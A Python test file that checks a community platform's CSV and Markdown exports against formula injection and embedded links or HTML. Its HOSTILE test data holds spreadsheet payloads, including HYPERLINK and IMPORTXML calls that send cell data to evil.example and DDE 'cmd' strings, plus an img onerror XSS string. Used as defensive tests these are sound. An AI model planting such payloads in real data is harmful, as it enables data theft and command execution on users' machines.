"""Exports: one CSV writer for every download (no cell a spreadsheet would run as a formula,
numbers kept as numbers), Markdown that stays text, and every export still opening with its
columns when people, spaces, ideas, notes and articles are named like formulas."""

from __future__ import annotations

import csv
import io
import json

import pytest
from markdown_it import MarkdownIt

from community.accounts.models import User
from community.analytics.reports import VIEWS
from community.analytics.views import EXPORT_COLUMNS
from community.brainstorms import operations as brainstorms
from community.brainstorms.models import BrainstormSession, Phase
from community.brainstorms.notes import add_note, create_cluster, move_note
from community.extensions import db
from community.ideas.models import Idea
from community.knowledge import operations as knowledge
from community.permissions import Role
from community.spaces.models import Space, SpaceRole
from community.web.exports import FORMULA_STARTS, csv_text, markdown_text, safe_cell

HOSTILE = {
    "idea": '=HYPERLINK("http://evil.example/?x="&A1,"Open report")',
    "space": "+cmd|' /C calc'!A0",
    "product": "-2+3+cmd|' /C calc'!A0",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "article": '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "note": "=1+1;=2+2",
    "cluster": '@HYPERLINK("http://evil.example")',
    "person": "-Mallory",
}


def csv_urls(app, values: dict[str, list]) -> set[str]:
    """The URL of every CSV route in the application, with each of ``values``."""
    urls = set()
    adapter = app.url_map.bind("localhost")
    for rule in app.url_map.iter_rules():
        if rule.rule.endswith(".csv"):
            (name,) = rule.arguments or {""}
            for value in values.get(name, [None]):
                urls.add(adapter.build(rule.endpoint, {name: value} if name else {}))
    return urls


def read_csv(body: str) -> list[list]:
    """Rows as a spreadsheet would see them: quoted cells are text, bare cells are numbers
    (reading fails if a text cell is left bare)."""
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), quoting=csv.QUOTE_NONNUMERIC))


def text_cells(rows: list[list]) -> list[str]:
    return [cell for row in rows for cell in row if isinstance(cell, str)]


def test_text_starting_like_a_formula_gets_a_quote():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell('  =HYPERLINK("x")') == '\'  =HYPERLINK("x")'  # after leading spaces
    assert safe_cell("\u00a0@SUM(A1)") == "'\u00a0@SUM(A1)"
    assert safe_cell("-1") == "'-1"  # text that looks like a number is still text
    assert safe_cell("plain = text") == "plain = text"
    assert safe_cell("'=already quoted") == "'=already quoted"
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_numbers_stay_numbers_negative_ones_too():
    from decimal import Decimal

    assert safe_cell(-1) == -1 and safe_cell(-2.5) == -2.5 and safe_cell(Decimal("-3")) == -3
    body = csv_text([["name", "change"], ["-1", -1], ["a;=1+1", 0.5]])
    lines = body.lstrip("\ufeff").splitlines()
    assert lines == ['"name","change"', '"\'-1",-1', '"a;=1+1",0.5']
    assert read_csv(body) == [["name", "change"], ["'-1", -1.0], ["a;=1+1", 0.5]]


def test_text_cells_are_quoted_so_a_separator_cannot_start_a_cell():
    """A spreadsheet that splits on ``;`` (many European locales) keeps a quoted cell whole."""
    body = csv_text([["ok;=1+1", "a,@b"]])
    assert body == '\ufeff"ok;=1+1","a,@b"\r\n'
    for row in csv.reader(io.StringIO(body[1:]), delimiter=";"):
        assert not any(cell.lstrip().startswith(FORMULA_STARTS) for cell in row)


def test_markdown_text_cannot_link_load_images_or_embed_html():
    hostile = (
        "[Open report](http://evil.example/?x=1) ![](http://evil.example/p.png) <img src=x "
        "onerror=alert(1)> **loud** `code` ~~gone~~ | a \\[ b"
    )
    rendered = (
        MarkdownIt("commonmark", {"html": True})
        .enable("table")
        .render(f"1. **{markdown_text(hostile)}**\n")
    )
    assert "<a " not in rendered and "<img" not in rendered and "<code>" not in rendered
    assert rendered.count("<strong>") == 1 and "<em>" not in rendered
    # Shown exactly as written (escaped for HTML, as any text is).
    assert "[Open report](http://evil.example/?x=1)" in rendered
    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered and "\\[ b" in rendered
    assert markdown_text("two\nlines\r\n  and\tspaces") == "two lines and spaces"


@pytest.fixture
def hostile(app, create_user, create_space, add_member, create_idea, vote_for, create_product):
    """Everything an export shows, named like a formula: a space, an idea in a product, a
    voter's organisation, a helpful article and a brainstorm's note, cluster and author."""
    analyst = create_user("ana", role=Role.ANALYST)
    author = create_user("author", display_name=HOSTILE["person"], segment="enterprise")
    voter = create_user("voter", segment="enterprise", organisation=HOSTILE["organisation"])
    space = create_space(HOSTILE["space"])
    for person in (analyst, author, voter):
        add_member(space, person, role=SpaceRole.EXPERT)
    idea = create_idea(space, author, title=HOSTILE["idea"], body="=1+1", tags="ui")
    vote_for(idea, voter)
    product = create_product([space], name=HOSTILE["product"])
    with app.test_request_context():
        db.session.get(Idea, idea.id).product_id = product.id
        article = knowledge.create_article(
            db.session.get(Space, space.id),
            title=HOSTILE["article"],
            body="Steps.",
            tags="",
            publish=True,
            by=db.session.get(User, author.id),
        )
        db.session.flush()
        knowledge.rate_article(article, by=db.session.get(User, voter.id), helpful=True)
        session = brainstorms.create_session(
            db.session.get(Space, space.id),
            by=db.session.get(User, author.id),
            prompt="[Vote](http://evil.example)",
        )
        db.session.commit()
        session_id = session.id
    with app.test_request_context():
        session = db.session.get(BrainstormSession, session_id)
        brainstorms.advance_phase(session, by=session.facilitator)
        note = add_note(session, author=db.session.get(User, author.id), text=HOSTILE["note"])
        brainstorms.advance_phase(session, by=session.facilitator)
        cluster = create_cluster(session, by=session.facilitator, name=HOSTILE["cluster"])
        move_note(note, by=session.facilitator, cluster=cluster)
        while session.current_phase != Phase.RESULTS:
            brainstorms.advance_phase(session, by=session.facilitator)
        db.session.commit()
    return {"analyst": analyst, "session": session_id}


def test_every_csv_export_neutralises_formulas_and_keeps_its_columns(app, client, login, hostile):
    login(client, hostile["analyst"])
    session = hostile["session"]
    exports = {
        "/analytics/ideas.csv": (["idea"], list(EXPORT_COLUMNS)),
        "/analytics/funnel.csv": (["space", "product"], ["table", "Status", "Ideas"]),
        "/analytics/demand.csv": (["idea", "organisation"], ["table", "#", "Idea", "Votes"]),
        "/analytics/knowledge.csv": (["article"], ["table", "Measure", "Value"]),
        "/analytics/participation.csv": (["space"], ["table", "Week of", "Members"]),
        f"/sessions/{session}/results.csv": (
            ["note", "cluster", "person"],
            ["Rank", "Kind", "Text", "Cluster", "Dots", "Idea", "Authors"],
        ),
    }
    assert set(exports) == csv_urls(app, {"view": VIEWS, "session_id": [session]})
    for url, (names, header) in exports.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert (
            response.mimetype == "text/csv"
            and "attachment" in response.headers["Content-Disposition"]
        )
        rows = read_csv(response.get_data(as_text=True))
        assert rows[0] == header, url
        cells = text_cells(rows)
        assert not [c for c in cells if c.lstrip().startswith(FORMULA_STARTS)], url
        for name in names:
            assert "'" + HOSTILE[name] in cells, (url, name)


def test_the_idea_csv_keeps_numbers_and_the_json_keeps_text_exactly(client, login, hostile):
    login(client, hostile["analyst"])
    rows = read_csv(client.get("/analytics/ideas.csv").get_data(as_text=True))
    idea = dict(zip(rows[0], rows[1], strict=True))
    assert idea["title"] == "'" + HOSTILE["idea"] and idea["votes"] == 1.0
    assert isinstance(idea["id"], float) and idea["segment_votes"] == ""
    exported = json.loads(client.get("/analytics/ideas.json").data)["ideas"]
    assert [i["title"] for i in exported] == [HOSTILE["idea"]]  # programs get the real title


def test_the_markdown_export_shows_hostile_text_as_text(client, login, hostile):
    login(client, hostile["analyst"])
    text = client.get(f"/sessions/{hostile['session']}/results.md").get_data(as_text=True)
    assert text.startswith("# \\[Vote\\](http://evil.example)\n")
    html = MarkdownIt("commonmark", {"html": True}).render(text)
    assert "<a " not in html
    assert "Brainstorming session in +cmd\\|' /C calc'!A0" in text
    assert '**@HYPERLINK("http://evil.example")** (Cluster' in text
